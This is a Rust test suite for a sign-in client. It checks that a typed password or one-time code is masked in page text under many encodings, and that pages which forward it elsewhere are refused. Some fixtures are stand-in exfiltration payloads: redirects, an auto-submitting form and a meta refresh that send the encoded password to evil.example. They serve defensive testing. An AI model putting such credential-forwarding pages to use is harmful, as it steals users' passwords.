//! What was typed unseen stays so, however a site writes it (S1), as long as the visit lives (S2), and goes nowhere
//! else (P22).

use data_encoding::{BASE32, BASE32_NOPAD, BASE64, BASE64_NOPAD, BASE64URL, HEXLOWER};
use kom_i_gang::{
    client::replay::Exchange,
    dialogue::{Ask, CodeQuestion, Goal, Problem, Refusal, SecretKind, Seen, Trouble, Turn},
};

use super::{
    ADFS, ReplayedVisit, SSO, action, code, credentials, echo, environment, keycloak, value, with_adfs,
};

const HOME: &str = "https://workplace.example.dk/";
const PASSWORD: &str = "Blåbærgrød7!";

/// As HTML has a text that says just this.
fn in_html(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;")
}

async fn title_told(password: &str, title: &str) -> String {
    let html = format!("<title>{}</title><p>Noget andet</p>", in_html(title));
    match echo::told(password, 200, html).await {
        Turn::Browser(Seen { title, .. }) => title,
        other => panic!("{other:?}"),
    }
}

fn percent(bytes: &[u8]) -> String {
    HEXLOWER
        .encode(bytes)
        .as_bytes()
        .chunks(2)
        .fold(String::new(), |text, digits| text + "%" + std::str::from_utf8(digits).unwrap())
}

fn by(write: impl Fn(u32) -> String) -> String {
    PASSWORD.chars().map(|letter| write(letter.into())).collect()
}

fn latin_1() -> Vec<u8> {
    PASSWORD.chars().map(|letter| u8::try_from(letter).unwrap()).collect()
}

#[tokio::test]
async fn s1_a_password_in_any_spelling_is_hidden() {
    let utf_8 = PASSWORD.as_bytes();
    let utf_16: Vec<u8> = PASSWORD.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let spellings = [
        PASSWORD.to_uppercase(),
        PASSWORD.to_lowercase(),
        "Blå bær grø d7!".to_owned(),
        "B-l-å-b-æ-r-g-r-ø-d-7-!".to_owned(),
        // Composed and decomposed; without its marks; wide.
        PASSWORD.replace('å', "a\u{30a}"),
        "Blabærgrød7!".to_owned(),
        PASSWORD.replace('7', "\u{ff17}"),
        percent(utf_8),
        percent(&latin_1()),
        percent(percent(utf_8).as_bytes()),
        "Bl%c3%a5b%C3%A6rgr%C3%B8d7%21".to_owned(),
        "Bl%25C3%25A5b%25C3%25A6rgr%25C3%25B8d7%2521".to_owned(),
        "Bl%u00e5b%u00e6rgr%u00f8d7!".to_owned(),
        "Bl&aring;b&aelig;rgr&oslash;d7&excl;".to_owned(),
        "Bl&aring b&aelig rgr&oslash d7!".to_owned(),
        "Bl&amp;aring;b&amp;aelig;rgr&amp;oslash;d7!".to_owned(),
        by(|letter| format!("&#{letter};")),
        by(|letter| format!("&#x{letter:X};")),
        by(|letter| format!("\\u{letter:04x}")),
        by(|letter| format!("\\x{letter:02x}")),
        by(|letter| format!("\\u{{{letter:x}}}")),
        by(|letter| format!("\\{letter:03o}")),
        by(|letter| format!("\\\\u{letter:04x}")),
        "Bl\\u00e5b\\u00e6rgr\\u00f8d7!".to_owned(),
        "Bl\\xc3\\xa5b\\xc3\\xa6rgr\\xc3\\xb8d7!".to_owned(),
        // UTF-8 that was taken for Latin-1.
        utf_8.iter().copied().map(char::from).collect(),
        BASE64.encode(utf_8),
        BASE64_NOPAD.encode(utf_8),
        BASE64URL.encode(utf_8),
        BASE64.encode(&latin_1()),
        BASE64.encode(&utf_16),
        BASE64.encode(BASE64.encode(utf_8).as_bytes()),
        BASE64.encode(utf_8).replace('=', "%3D"),
        BASE32.encode(utf_8),
        BASE32_NOPAD.encode(utf_8).to_lowercase(),
        HEXLOWER.encode(utf_8),
        HEXLOWER.encode(utf_8).to_uppercase(),
    ];
    for spelling in spellings {
        let told = title_told(PASSWORD, &format!("Hej {spelling} slut")).await;
        assert_eq!(told, "Hej ••• slut", "{spelling}");
    }
    // At each place among other bytes.
    for before in ["", "x", "xy", "user=", "navn:", "Password="] {
        let coded = BASE64.encode(format!("{before}{PASSWORD}&z=1").as_bytes());
        assert_eq!(title_told(PASSWORD, &coded).await, "•••", "{before}");
        let coded = BASE32_NOPAD.encode(format!("{before}{PASSWORD}&z=1").as_bytes());
        assert_eq!(title_told(PASSWORD, &coded).await, "•••", "{before}");
    }
}

#[tokio::test]
async fn s1_four_characters_are_enough() {
    for (password, title, expected) in [
        ("æ7ø!", "Kode: æ7ø!.", "Kode: •••."),
        ("æ7ø!", &*format!("Kode: {}", BASE64.encode("æ7ø!".as_bytes())), "Kode: •••"),
        ("!#%&", "Kode: !#%& !%23%25%26", "Kode: ••• •••"),
        ("ab12", "AB-12 ab13", "••• ab13"),
        ("1234", "12 34, 1235", "•••, 1235"),
        ("abc", "abc YWJj", "abc YWJj"),
    ] {
        assert_eq!(title_told(password, title).await, expected, "{password}");
    }
}

/// Values of addresses and cookies are never shown, whoever's they are.
#[tokio::test]
async fn s1_values_of_addresses_and_cookies_are_hidden() {
    for (title, expected) in [
        ("session_code=aB-3_x&execution=4f-5", "session_code=•••&execution=•••"),
        ("Fejl tab_id=Zx, client_data=eyJy.x", "Fejl tab_id=•••, client_data=•••"),
        ("https://x.example/cb?a=b&state=q#code=w", "https://x.example/cb?a=•••&state=•••#code=•••"),
        ("{\"session_code\": \"aB3\"}", "{\"session_code\": \"•••\"}"),
        ("tab_id%3Dabcd", "tab_id%3D•••"),
        ("otpauth://totp/Y:b1?secret=MFRGGZDF", "•••"),
        ("sso-cookie 4f0c.node-7, igen", "sso-cookie •••, igen"),
        // The session_code of the form.
        ("xQ3-session.code9 her", "••• her"),
        // Ordinary words.
        ("Fejl=ja, execution og code", "Fejl=ja, execution og code"),
        ("Error code: MSIS7012", "Error code: MSIS7012"),
    ] {
        let sign_in =
            format!("{SSO}/realms/x/login-actions/authenticate?session_code=xQ3-session.code9&tab_id=t");
        let form = format!(
            "<form action='{sign_in}' method=post><input name=username><input name=password type=password></form>"
        );
        let told = format!("<title>{}</title><p>Noget andet</p>", in_html(title));
        let fields = [("username", "PROD\\b100001"), ("password", PASSWORD)];
        let exchanges = vec![
            Exchange::get(HOME).redirect(302, SSO),
            Exchange::get(format!("{SSO}/"))
                .page(200, form)
                .header("set-cookie", "AUTH_SESSION_ID=4f0c.node-7; Path=/"),
            Exchange::post(sign_in, &fields).page(200, told),
        ];
        let mut visit = ReplayedVisit::new(Goal::SignedIn, environment(), exchanges);
        visit.start().await;
        let Turn::Browser(seen) = visit.answer(credentials(PASSWORD)).await else { panic!("{title}") };
        assert_eq!(seen.title, expected);
        visit.ends();
    }
}

/// At the page for a code of a token that exists.
fn at_the_code(digits: &str, then: impl FnOnce(Exchange) -> Exchange) -> ReplayedVisit {
    let html = keycloak("v2-da-login-otp");
    let chosen = value(&html, "selectedCredentialId");
    let fields = [("selectedCredentialId", &*chosen), ("otp", digits), ("login", "")];
    let exchanges = vec![
        Exchange::get(HOME).redirect(302, SSO),
        Exchange::get(format!("{SSO}/")).page(200, html.clone()),
        then(Exchange::post(action(&html), &fields)),
    ];
    ReplayedVisit::new(Goal::SignedIn, environment(), exchanges)
}

#[tokio::test]
async fn s1_a_code_in_groups_is_hidden() {
    for spelling in
        ["112-110", "112 110", "11 21 10", "1.1.2.1.1.0", "%31%31%32110", "MTEyMTEw", "313132313130"]
    {
        let wrong = keycloak("v2-da-login-otp-wrong-code")
            .replace("Ugyldig autentificerings kode.", &format!("Koden {spelling} er forkert"));
        let mut visit = at_the_code("112110", |sent| sent.page(200, wrong));
        visit.start().await;
        let refused = Some(Refusal { quote: Some("Koden ••• er forkert".to_owned()) });
        let host = "localhost:9443".to_owned();
        let expected = Turn::Ask(Ask::Code(CodeQuestion { host, refused }));
        assert_eq!(visit.answer(code("112110")).await, expected, "{spelling}");
        visit.ends();
    }
}

/// A text that we have cut may end in half of it, in any spelling.
#[tokio::test]
async fn s1_no_half_is_left_in_a_title_that_was_cut() {
    let coded = percent(PASSWORD.as_bytes());
    for before in [20, 76, 79, 540, 560, 580, 598] {
        let told = title_told(PASSWORD, &format!("{} {coded}", "x".repeat(before))).await;
        assert!(!told.contains('%') && !told.contains("42"), "{before}: {told}");
    }
}

fn passed_on(what: SecretKind, host: &str, origin: &str, answer_lost: bool) -> Turn {
    let (sent_to, origin) = (host.to_owned(), origin.to_owned());
    let trouble = Trouble::PassedOn { what, sent_to: sent_to.clone(), origin };
    Turn::Stuck(Problem { trouble, host: sent_to, quote: None, answer_lost })
}

fn to_adfs(then: impl FnOnce(Exchange) -> Exchange) -> ReplayedVisit {
    let handed = keycloak("base-da-saml-post-binding");
    let hidden =
        [("SAMLRequest", &*value(&handed, "SAMLRequest")), ("RelayState", &*value(&handed, "RelayState"))];
    let fields =
        [("UserName", "PROD\\b100001"), ("Password", PASSWORD), ("AuthMethod", "FormsAuthentication")];
    let exchanges = vec![
        Exchange::get(HOME).redirect(302, SSO),
        Exchange::get(format!("{SSO}/")).page(200, handed.clone()),
        Exchange::post(action(&handed), &hidden).page(200, super::page("adfs")),
        then(Exchange::post("https://localhost:9444/adfs/ls/?client-request-id=7&x=1", &fields)),
    ];
    ReplayedVisit::new(Goal::SignedIn, with_adfs(), exchanges)
}

#[tokio::test]
async fn p22_a_redirect_that_holds_the_password_is_refused() {
    let spellings = [
        percent(PASSWORD.as_bytes()),
        percent(&latin_1()),
        BASE64URL.encode(PASSWORD.as_bytes()),
        HEXLOWER.encode(PASSWORD.as_bytes()),
        percent(percent(PASSWORD.as_bytes()).as_bytes()),
        BASE64.encode(format!("UserName=x&Password={PASSWORD}").as_bytes()),
    ];
    for spelling in &spellings {
        for (target, origin) in [
            (format!("https://evil.example/?q={spelling}"), "https://evil.example"),
            (format!("https://evil.example/{spelling}/x"), "https://evil.example"),
            (format!("{SSO}/realms/x?q=1&r={spelling}"), SSO),
            (format!("{ADFS}/adfs/ls/?p={spelling}"), ADFS),
            (format!("https://x:{spelling}@evil.example/"), "https://evil.example"),
            (format!("{SSO}/#{spelling}"), SSO),
        ] {
            let mut visit = to_adfs(|sent| sent.redirect(302, &target));
            visit.start().await;
            let turn = visit.answer(credentials(PASSWORD)).await;
            assert_eq!(turn, passed_on(SecretKind::Password, "localhost:9444", origin, true), "{target}");
            visit.ends();
        }
    }
}

#[tokio::test]
async fn p22_a_page_that_sends_the_password_on_is_refused() {
    let coded = BASE64.encode(PASSWORD.as_bytes());
    let sends = "<body onload='document.forms[0].submit()'>";
    for (html, origin) in [
        (
            format!(
                "{sends}<form method=post action='{SSO}/x'><input type=hidden name=SAMLRequest value='{PASSWORD}'></form>"
            ),
            SSO,
        ),
        (
            format!(
                "{sends}<form method=post action='https://evil.example/'><input type=hidden name=SAMLRequest value='{coded}'></form>"
            ),
            "https://evil.example",
        ),
        (
            format!(
                "{sends}<form method=post action='{SSO}/x'><input type=hidden name='{coded}' value=1></form>"
            ),
            SSO,
        ),
        (
            format!(
                "{sends}<form method=post action='{SSO}/x?y={coded}'><input type=hidden name=a value=1></form>"
            ),
            SSO,
        ),
    ] {
        let mut visit = to_adfs(|sent| sent.page(200, html.clone()));
        visit.start().await;
        let turn = visit.answer(credentials(PASSWORD)).await;
        assert_eq!(turn, passed_on(SecretKind::Password, "localhost:9444", origin, false), "{html}");
        visit.ends();
    }
}

#[tokio::test]
async fn p22_a_page_that_leads_on_with_the_password_is_refused() {
    let coded = BASE64.encode(PASSWORD.as_bytes());
    let html =
        format!("<meta http-equiv=refresh content='0;url=https://evil.example/x?y={coded}'><p>Vent</p>");
    let mut visit = to_adfs(|sent| sent.page(200, html));
    visit.start().await;
    let turn = visit.answer(credentials(PASSWORD)).await;
    let expected = passed_on(SecretKind::Password, "localhost:9444", "https://evil.example", true);
    assert_eq!(turn, expected);
    visit.ends();
}

#[tokio::test]
async fn p22_a_redirect_that_holds_the_code_is_refused() {
    for target in ["https://evil.example/?otp=112-110", "https://localhost:9443/x?otp=112110"] {
        let mut visit = at_the_code("112110", |sent| sent.redirect(302, target));
        visit.start().await;
        let origin = target.split("/?").next().unwrap().split("/x").next().unwrap();
        let turn = visit.answer(code("112110")).await;
        assert_eq!(turn, passed_on(SecretKind::Code, "localhost:9443", origin, true), "{target}");
        visit.ends();
    }
}

/// As in a browser.
#[tokio::test]
async fn p22_a_name_or_an_email_address_may_travel() {
    let next = format!("{SSO}/realms/x?login_hint=PROD%5Cb100001");
    let mut visit = echo::at_the_password(
        PASSWORD,
        |sent| sent.redirect(302, &next),
        vec![Exchange::get(&next).page(200, keycloak("v2-da-login-otp"))],
    );
    visit.start().await;
    assert!(matches!(visit.answer(credentials(PASSWORD)).await, Turn::Ask(Ask::Code(_))));
    visit.ends();
}

/// A brother: a cookie would take it along to each page from then on.
#[tokio::test]
async fn p22_a_cookie_that_holds_the_password_is_not_kept() {
    let next = format!("{SSO}/next");
    let cookie = format!("last={}; Path=/", percent(PASSWORD.as_bytes()));
    let mut visit = echo::at_the_password(
        PASSWORD,
        |sent| sent.redirect(302, &next).header("set-cookie", &cookie).header("set-cookie", "a=1; Path=/"),
        vec![Exchange::get(&next).page(200, keycloak("v2-da-login-otp"))],
    );
    visit.start().await;
    visit.answer(credentials(PASSWORD)).await;
    assert_eq!(visit.replay.cookies().last().map(String::as_str), Some("a=1"));
    visit.ends();
}

/// A brother: the form that asks once more, at an address with what was typed before. The new answer stays here.
#[tokio::test]
async fn p22_a_form_whose_address_holds_the_password_gets_no_other() {
    let again = super::page("sso-own-sign-in").replacen(
        "session_code=3",
        &format!("session_code={}", percent(PASSWORD.as_bytes())),
        1,
    );
    let mut visit = echo::at_the_password(PASSWORD, |sent| sent.page(200, again), Vec::new());
    visit.start().await;
    assert!(matches!(visit.answer(credentials(PASSWORD)).await, Turn::Ask(Ask::Credentials(_))));
    let expected = passed_on(SecretKind::Password, "localhost:9443", SSO, false);
    assert_eq!(visit.answer(credentials("Efterår2026!")).await, expected);
    visit.ends();
}

/// A brother, and no test noticed: by GET a form puts what is typed into an address.
#[tokio::test]
async fn p22_a_form_that_would_put_the_password_into_an_address_is_for_the_browser() {
    let form = "<form method=get action=/in><input name=username><input name=password type=password></form>";
    let exchanges =
        vec![Exchange::get(HOME).redirect(302, SSO), Exchange::get(format!("{SSO}/")).page(200, form)];
    let mut visit = ReplayedVisit::new(Goal::SignedIn, environment(), exchanges);
    let turn = visit.start().await;
    assert!(matches!(turn, Turn::Browser(_)), "{turn:?}");
    visit.ends();
}
